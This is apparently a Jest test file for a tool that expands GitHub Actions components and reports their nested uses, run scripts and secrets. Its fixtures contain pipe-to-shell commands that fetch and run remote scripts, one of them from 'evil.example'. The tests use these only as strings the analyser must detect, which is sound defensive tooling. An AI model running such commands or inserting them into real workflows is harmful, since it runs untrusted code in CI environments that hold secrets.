import * as fs from 'node:fs';
import * as path from 'node:path';
import type { ComponentSource, ComponentUse, ExpandContext, RepoInput, SourceFile } from '../../model';
import { memorySource } from '../../testing';
import { githubActions } from './index';
import { parseUses } from './parse';

function readTree(root: string): SourceFile[] {
  const out: SourceFile[] = [];
  const walk = (dir: string): void => {
    for (const e of fs.readdirSync(dir, { withFileTypes: true })) {
      const full = path.join(dir, e.name);
      if (e.isDirectory()) walk(full);
      else out.push({ path: path.relative(root, full).split(path.sep).join('/'), text: fs.readFileSync(full, 'utf8') });
    }
  };
  walk(root);
  return out;
}

const FIXTURES = path.join(__dirname, '__fixtures__');
const repo: RepoInput = { repo: 'acme/app', files: readTree(path.join(FIXTURES, 'repo')) };
const cache = Object.fromEntries(readTree(path.join(FIXTURES, 'cache')).map((f) => [f.path, f.text]));

function ctx(source: ComponentSource = memorySource(cache)): ExpandContext {
  return { repo, source };
}

function use(raw: string, inputs?: Record<string, string>): ComponentUse {
  const ref = parseUses(raw);
  if (!ref) throw new Error(`bad fixture ref ${raw}`);
  const u: ComponentUse = { ref, pos: { file: '.github/workflows/release.yml', line: 1 } };
  if (inputs) u.inputs = inputs;
  return u;
}

describe('githubActions.expand', () => {
  it('declares the kinds it expands', () => {
    expect([...githubActions.expands].sort()).toEqual(['gha-action', 'gha-local-action', 'gha-local-workflow', 'gha-reusable-workflow']);
  });

  describe('composite actions', () => {
    const FILE = 'octo-org/composite@v1//action.yml';

    it("lists its steps' uses and run text, with input defaults substituted; commented-out uses are not uses", () => {
      const x = githubActions.expand(use('octo-org/composite@v1'), ctx());
      expect(x.status).toBe('resolved');
      expect(x.uses).toEqual([
        {
          ref: { kind: 'gha-action', owner: 'octo-org', repo: 'js-action', ref: 'v1', raw: 'octo-org/js-action@v1' },
          pos: { file: FILE, line: 10 },
          inputs: { where: 'dev' },
        },
        { ref: { kind: 'gha-local-action', path: '.github/actions/setup', raw: './.github/actions/setup' }, pos: { file: FILE, line: 16 } },
      ]);
      expect(x.uses.some((u) => u.ref.raw.includes('evil'))).toBe(false);
      expect(x.scripts).toEqual([{ text: 'curl -s https://codecov.io/bash | bash', pos: { file: FILE, line: 14 } }]);
      expect(x.errors).toMatchObject([{ code: 'gha-bad-uses', file: FILE, line: 17 }]);
    });

    it('lets use-site inputs win over defaults', () => {
      const x = githubActions.expand(use('octo-org/composite@v1', { target: 'prod', url: 'https://evil.example/x.sh' }), ctx());
      expect(x.uses[0]!.inputs).toEqual({ where: 'prod' });
      expect(x.scripts[0]!.text).toBe('curl -s https://evil.example/x.sh | bash');
    });

    it('reads action.yml at the sub-path of owner/repo/path@ref', () => {
      const source = memorySource(cache);
      const x = githubActions.expand(use('octo-org/monorepo/tools/lint@v1'), ctx(source));
      expect(x).toMatchObject({ status: 'resolved', uses: [], errors: [] });
      // A block scalar's script starts on the line after `run: |`.
      expect(x.scripts).toEqual([{ text: 'npx eslint .\n', pos: { file: 'octo-org/monorepo/tools/lint@v1//action.yml', line: 5 } }]);
      expect(source.reads).toEqual(['github/octo-org/monorepo@v1/tools/lint/action.yml']);
    });

    it('reads a local action from the repository, with its defaults and the secrets its inputs read', () => {
      const FILE_L = '.github/actions/setup/action.yml';
      const x = githubActions.expand(use('./.github/actions/setup'), ctx());
      expect(x.status).toBe('resolved');
      expect(x.uses.map((u) => [u.ref.raw, u.pos, u.inputs])).toEqual([
        ['actions/setup-go@v5', { file: FILE_L, line: 10 }, { 'go-version': '1' }],
        ['./.github/actions/missing', { file: FILE_L, line: 15 }, undefined],
      ]);
      expect(x.scripts).toEqual([{ text: 'curl -sSf https://example.com/install-1.sh | bash', pos: { file: FILE_L, line: 13 } }]);
      expect(x.secrets).toEqual([{ name: 'GITHUB_TOKEN', kind: 'ci-token', pos: { file: FILE_L, line: 6 } }]);
      const given = githubActions.expand(use('./.github/actions/setup', { version: '2' }), ctx());
      expect(given.uses[0]!.inputs).toEqual({ 'go-version': '2' });
      expect(given.scripts[0]!.text).toContain('install-2.sh');
    });
  });

  describe('self-repository references ($/path)', () => {
    const remote = memorySource({
      'github/octo/kit@v2/action.yml': 'runs:\n  using: composite\n  steps:\n    - uses: $/sub/upload\n    - uses: $/.github/workflows/inner.yml\n    - uses: ./local-in-workspace\n',
      'github/octo/kit@v2/.github/workflows/outer.yml': 'on: workflow_call\njobs:\n  a:\n    uses: $/.github/workflows/inner.yml\n  b:\n    runs-on: ubuntu-latest\n    steps:\n      - uses: $/sub/upload\n',
    });

    it("inside a remote composite action: the action's own repository at its ref; `./` stays the caller's workspace", () => {
      const e = githubActions.expand(use('octo/kit@v2'), ctx(remote));
      expect(e?.uses.map((u) => u.ref)).toEqual([
        { kind: 'gha-action', owner: 'octo', repo: 'kit', path: 'sub/upload', ref: 'v2', raw: '$/sub/upload' },
        { kind: 'gha-reusable-workflow', owner: 'octo', repo: 'kit', path: '.github/workflows/inner.yml', ref: 'v2', raw: '$/.github/workflows/inner.yml' },
        { kind: 'gha-local-action', path: 'local-in-workspace', raw: './local-in-workspace' },
      ]);
    });

    it('inside a remote reusable workflow: the same', () => {
      const e = githubActions.expand(use('octo/kit/.github/workflows/outer.yml@v2'), ctx(remote));
      expect(e?.uses.map((u) => [u.ref.kind, 'owner' in u.ref ? u.ref.owner : '', 'ref' in u.ref ? u.ref.ref : ''])).toEqual([
        ['gha-reusable-workflow', 'octo', 'v2'],
        ['gha-action', 'octo', 'v2'],
      ]);
    });
  });

  describe('docker and JavaScript actions', () => {
    it('a docker action names its image (action.yaml when there is no action.yml)', () => {
      const source = memorySource(cache);
      const x = githubActions.expand(use('octo-org/docker-action@v1'), ctx(source));
      expect(x.status).toBe('resolved');
      expect(x.uses).toEqual([
        {
          ref: { kind: 'image', name: 'ghcr.io/octo-org/tool', digest: `sha256:${'a'.repeat(64)}`, raw: `docker://ghcr.io/octo-org/tool@sha256:${'a'.repeat(64)}` },
          pos: { file: 'octo-org/docker-action@v1//action.yaml', line: 4 },
        },
      ]);
      expect(source.reads).toEqual(['github/octo-org/docker-action@v1/action.yml', 'github/octo-org/docker-action@v1/action.yaml']);
    });

    it('a Dockerfile action and a node action are resolved with nothing further to follow', () => {
      expect(githubActions.expand(use('octo-org/dockerfile-action@v1'), ctx())).toEqual({ status: 'resolved', uses: [], scripts: [], secrets: [], errors: [] });
      const js = githubActions.expand(use('octo-org/js-action@v1'), ctx());
      expect(js).toMatchObject({ status: 'resolved', uses: [], scripts: [], errors: [] });
      expect(js.secrets.map((s) => s.kind)).toEqual(['ci-token']);
    });
  });

  describe('reusable workflows', () => {
    it("returns every job's components, run scripts (inputs from the caller) and the secrets it reads", () => {
      const FILE = 'octo-org/ci/.github/workflows/build.yml@v1//.github/workflows/build.yml';
      const x = githubActions.expand(use('octo-org/ci/.github/workflows/build.yml@v1', { target: 'prod' }), ctx());
      expect(x.status).toBe('resolved');
      expect(x.uses.map((u) => [u.ref.kind, u.ref.raw, u.pos.line, u.inputs])).toEqual([
        ['image', 'ghcr.io/octo-org/builder:2', 11, undefined],
        ['gha-action', 'octo-org/composite@v1', 13, { target: 'prod' }],
        ['gha-reusable-workflow', 'octo-org/ci/.github/workflows/other.yml@v1', 20, undefined],
      ]);
      expect(x.uses.every((u) => u.pos.file === FILE)).toBe(true);
      expect(x.scripts).toEqual([{ text: 'bash <(curl -s https://example.com/prod.sh)', pos: { file: FILE, line: 16 } }]);
      expect(x.secrets).toEqual([{ name: 'API_KEY', kind: 'secret', pos: { file: FILE, line: 18 } }]);
      expect(x.errors).toEqual([]);
    });

    it('uses the workflow_call input defaults when the caller passes none (local workflow)', () => {
      const x = githubActions.expand(use('./.github/workflows/reusable.yml'), ctx());
      expect(x.status).toBe('resolved');
      expect(x.uses.map((u) => [u.ref.raw, u.inputs])).toEqual([['octo-org/deploy-action@v2', { env: 'staging', token: '${{ secrets.token }}' }]]);
      expect(x.scripts.map((s) => s.text)).toEqual(['./deploy.sh --env staging']);
      expect(x.secrets).toEqual([{ name: 'token', kind: 'secret', pos: { file: '.github/workflows/reusable.yml', line: 17 } }]);
    });
  });

  describe('unresolved definitions', () => {
    it('a remote component missing from the source says where it was looked for', () => {
      const x = githubActions.expand(use('octo-org/absent@v9'), ctx());
      expect(x).toMatchObject({ status: 'unresolved', uses: [], scripts: [], secrets: [] });
      expect(x.reason).toContain('github/octo-org/absent@v9');
      const wf = githubActions.expand(use('octo-org/ci/.github/workflows/other.yml@v1'), ctx());
      expect(wf.status).toBe('unresolved');
      expect(wf.reason).toContain('other.yml');
    });

    it('a local action or workflow missing from the repository', () => {
      const x = githubActions.expand(use('./.github/actions/missing'), ctx());
      expect(x).toMatchObject({ status: 'unresolved', reason: expect.stringContaining('.github/actions/missing/action.yml') as string });
      expect(githubActions.expand(use('./.github/workflows/none.yml'), ctx()).status).toBe('unresolved');
    });

    it('a definition that is not valid YAML is unresolved, with a located error', () => {
      const x = githubActions.expand(use('octo-org/bad-action@v1'), ctx());
      expect(x.status).toBe('unresolved');
      expect(x.errors[0]).toMatchObject({ code: 'yaml-syntax', file: 'octo-org/bad-action@v1//action.yml' });
      expect(x.errors[0]!.line).toBeGreaterThanOrEqual(2);
    });

    it('an action without `runs`, or with an unknown `runs.using`, is reported at its line', () => {
      const source = memorySource({ 'github/o/norun@v1/action.yml': 'name: x\n', 'github/o/weird@v1/action.yml': 'runs:\n  using: cobol\n' });
      const a = githubActions.expand(use('o/norun@v1'), ctx(source));
      expect(a).toMatchObject({ status: 'unresolved', errors: [{ code: 'gha-action-no-runs', line: 1 }] });
      const b = githubActions.expand(use('o/weird@v1'), ctx(source));
      expect(b).toMatchObject({ status: 'resolved', errors: [{ code: 'gha-action-unknown-runs', line: 2 }] });
    });

    it('a component of another platform is not expanded here', () => {
      expect(githubActions.expand(use('docker://alpine'), ctx()).status).toBe('unresolved');
    });

    it('a source that fails turns into an error entry, not a throw', () => {
      const failing: ComponentSource = {
        read: () => {
          throw new Error('disk on fire');
        },
        describe: () => 'nowhere',
      };
      const x = githubActions.expand(use('octo-org/composite@v1'), ctx(failing));
      expect(x).toMatchObject({ status: 'unresolved', errors: [{ code: 'gha-expand-failed', file: '.github/workflows/release.yml', line: 1 }] });
      expect(x.reason).toContain('disk on fire');
    });
  });
});
